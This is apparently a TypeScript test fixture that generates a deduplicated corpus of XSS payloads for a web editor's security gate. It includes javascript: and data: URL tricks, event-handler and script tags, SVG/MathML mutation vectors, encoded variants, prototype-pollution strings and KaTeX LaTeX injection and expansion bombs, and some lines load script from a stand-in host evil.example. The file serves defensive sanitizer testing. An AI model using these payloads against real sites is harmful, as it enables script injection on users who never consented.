/*
 * The XSS corpus (issue 9 §2 security gate): payload strings generated from vectors × encodings
 * × contexts, deduplicated. The unit gate (tests/unit/xss_gate.spec.ts) places each one in every
 * slot of a stored document; the browser gate submits them through the editor and renders them.
 */

const JS = 'alert(1)'

/** URLs that run script when followed or loaded, with case, whitespace, entity and scheme tricks. */
const SCRIPT_URLS = [
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  `JAVASCRIPT:${JS}`,
  ` javascript:${JS}`,
  `\tjavascript:${JS}`,
  `java\tscript:${JS}`,
  `java\nscript:${JS}`,
  `java\rscript:${JS}`,
  `java\u0000script:${JS}`,
  `\u0001javascript:${JS}`,
  `\uFEFFjavascript:${JS}`,
  `java\u200Bscript:${JS}`,
  `&#106;avascript:${JS}`,
  `&#x6A;avascript:${JS}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${JS}`,
  `javascript&colon;${JS}`,
  `jav&#x09;ascript:${JS}`,
  `jav&#x0A;ascript:${JS}`,
  `javascript://%0a${JS}`,
  `javascript://example.org/%0a${JS}`,
  `%6Aavascript:${JS}`,
  `javascript:void(0);${JS}`,
  `javascript:/*-->*/${JS}`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `livescript:${JS}`,
  `data:text/html,<script>${JS}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:text/html,<script>${JS}</script>`,
  `data:image/svg+xml,<svg onload=${JS}>`,
  `data:application/javascript,${JS}`,
  ` data:text/html,<script>${JS}</script>`,
  `blob:https://example.org/uuid`,
  `file:///etc/passwd`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x.js`,
  `https://evil.example/" onmouseover="${JS}`,
  `https://evil.example/'><script>${JS}</script>`,
  `{host}/javascript:${JS}`,
  `mailto:a@b.co?body=<script>${JS}</script>`,
  `mailto:javascript:${JS}`,
  `/uploads/1/x.png" onerror="${JS}`,
  `/uploads/1/../../javascript:${JS}`,
]

const EVENT_TAGS = [
  'img', 'svg', 'body', 'iframe', 'video', 'audio', 'details', 'input', 'a', 'div', 'marquee', 'object', 'embed',
  'select', 'textarea', 'math', 'form', 'button', 'style', 'link', 'meta', 'source', 'track', 'frameset', 'keygen', 'xss',
]

const EVENT_HANDLERS = [
  `src=x onerror=${JS}`,
  `onload=${JS}`,
  `onmouseover="${JS}"`,
  `onfocus=${JS} autofocus tabindex=1`,
  `ontoggle=${JS} open`,
  `onanimationstart=${JS} style="animation-name:x"`,
  `onpointerenter='${JS}'`,
  `/onerror=${JS}`,
]

const SCRIPT_TAGS = [
  `<script>${JS}</script>`,
  `<ScRiPt>${JS}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>/*</script>*/${JS}</script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<script\x20type="text/javascript">${JS}</script>`,
  `<script/xss>${JS}</script>`,
  `<<script>${JS};//<</script>`,
  `<script>${JS}<!--`,
  `<SCRIPT SRC=data:text/javascript,${JS}></SCRIPT>`,
]

const SVG_AND_MATHML = [
  `<svg><script>${JS}</script></svg>`,
  `<svg/onload=${JS}>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${JS}>`,
  `<svg><a xlink:href="javascript:${JS}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><a href="javascript:${JS}"><circle r=40></circle></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${JS}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${JS}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${JS}></style></svg>`,
  `<svg><title><![CDATA[</title><script>${JS}</script>]]></svg>`,
  `<math href="javascript:${JS}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  `<math><mi xlink:href="data:x,<script>${JS}</script>">x</mi></math>`,
]

const MUTATION = [
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${JS} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  `<listing>&lt;img src=1 onerror=${JS}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${JS}>">`,
  `<template><img src=x onerror=${JS}></template>`,
  `<!--><img src=x onerror=${JS}>-->`,
  `<![CDATA[><img src=x onerror=${JS}>]]>`,
  `<title><img src=x onerror=${JS}></title>`,
  `<table><td><img src=x onerror=${JS}></td></table>`,
  `<select><template><img src=x onerror=${JS}></template></select>`,
  `<a href="&#x6A;avascript:${JS}">x</a>`,
  `<img src="x` + '`' + ` onerror=${JS}>`,
  `<iframe srcdoc="&lt;script&gt;${JS}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="javascript:${JS}">`,
  `<base href="javascript:${JS}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<link rel=import href="data:text/html,<script>${JS}</script>">`,
  `<isindex type=image src=1 onerror=${JS}>`,
  `<div style="background:url(javascript:${JS})">x</div>`,
  `<div style="x:expression(${JS})">x</div>`,
  `<style>@import 'javascript:${JS}';</style>`,
  `<style>*{background:url("javascript:${JS}")}</style>`,
]

const UNICODE_AND_ENCODED = [
  `＜script＞${JS}＜/script＞`,
  `\u202Ejavascript:${JS}`,
  `<img src=x onerror=\u0061lert(1)>`,
  `\\u003cscript\\u003e${JS}\\u003c/script\\u003e`,
  `%3Cscript%3E${JS}%3C/script%3E`,
  `%253Cscript%253E${JS}%253C/script%253E`,
  `&lt;script&gt;${JS}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${JS}`,
  `%C0%BCscript%C0%BE${JS}%C0%BC/script%C0%BE`,
  `<ѕcript>${JS}</ѕcript>`,
  `<scr\u0000ipt>${JS}</scr\u0000ipt>`,
  `<img src=x on\u0000error=${JS}>`,
  `\u2028<script>${JS}</script>`,
  `+ADw-script+AD4-${JS}+ADw-/script+AD4-`,
]

const BREAKOUTS = [
  `{{constructor.constructor('${JS}')()}}`,
  `\${${JS}}`,
  `#{${JS}}`,
  `<%= ${JS} %>`,
  `</style><script>${JS}</script>`,
  `</textarea><script>${JS}</script>`,
  `</title><script>${JS}</script>`,
  `</script><script>${JS}</script>`,
  `"><script>${JS}</script>`,
  `'><img src=x onerror=${JS}>`,
  `"onmouseover="${JS}`,
  `' onfocus='${JS}' autofocus='`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${JS}//'>`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"isAdmin":true}}`,
]

/** LaTeX that tries to make KaTeX emit links, images, HTML or endless work (trust: false must hold). */
const LATEX = [
  `\\href{javascript:${JS}}{x}`,
  `\\href{JaVaScRiPt:${JS}}{click}`,
  `\\href{data:text/html,<script>${JS}</script>}{x}`,
  `\\url{javascript:${JS}}`,
  `\\url{vbscript:msgbox(1)}`,
  `\\includegraphics{https://evil.example/pixel.png}`,
  `\\includegraphics[height=1em]{javascript:${JS}}`,
  `\\htmlClass{x" onmouseover="${JS}}{y}`,
  `\\htmlId{x" onclick="${JS}}{y}`,
  `\\htmlStyle{background:url(javascript:${JS})}{x}`,
  `\\htmlData{onclick=${JS}}{x}`,
  `\\text{<script>${JS}</script>}`,
  `\\mathrm{<img src=x onerror=${JS}>}`,
  `\\textcolor{red" onmouseover="${JS}}{x}`,
  `\\color{javascript:${JS}}x`,
  `\\def\\x{\\x\\x}\\x`,
  `\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{xxxxxxxx}\\a\\a\\a\\a`,
  `\\rule{100000em}{100000em}`,
  `\\unicode{<script>}`,
  `\\operatorname{<svg onload=${JS}>}`,
  `\\verb|<script>${JS}</script>|`,
  `\\begin{array}{c}<img src=x onerror=${JS}>\\end{array}`,
]

const eventVectors = EVENT_TAGS.flatMap((tag) => EVENT_HANDLERS.map((handler) => `<${tag} ${handler}>`))

const urlVectors = SCRIPT_URLS.flatMap((url) => [
  url,
  `<a href="${url}">x</a>`,
  `<iframe src="${url}"></iframe>`,
  `<img src="${url}">`,
  `<form action="${url}"><button>x</button></form>`,
])

const markupVectors = [...SCRIPT_TAGS, ...SVG_AND_MATHML, ...MUTATION, ...UNICODE_AND_ENCODED, ...BREAKOUTS]

/** The same markup in the shapes a filter might miss: entity-escaped, URL-encoded, upper-cased. */
const ENCODINGS: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (payload) => encodeURIComponent(payload),
  (payload) => payload.toUpperCase(),
]

/** Where in surrounding markup the payload lands: closing an attribute, a tag or a comment first. */
const CONTEXTS: ((payload: string) => string)[] = [(payload) => payload, (payload) => `"${payload}`, (payload) => `</p>${payload}`, (payload) => `-->${payload}`]

function generate(): string[] {
  const all = new Set<string>()
  for (const vector of markupVectors) for (const encode of ENCODINGS) for (const context of CONTEXTS) all.add(context(encode(vector)))
  for (const vector of [...eventVectors, ...urlVectors, ...LATEX]) all.add(vector)
  return [...all]
}

export const XSS_PAYLOADS: readonly string[] = generate()

/** The LaTeX subset, for the KaTeX checks. */
export const LATEX_PAYLOADS: readonly string[] = LATEX
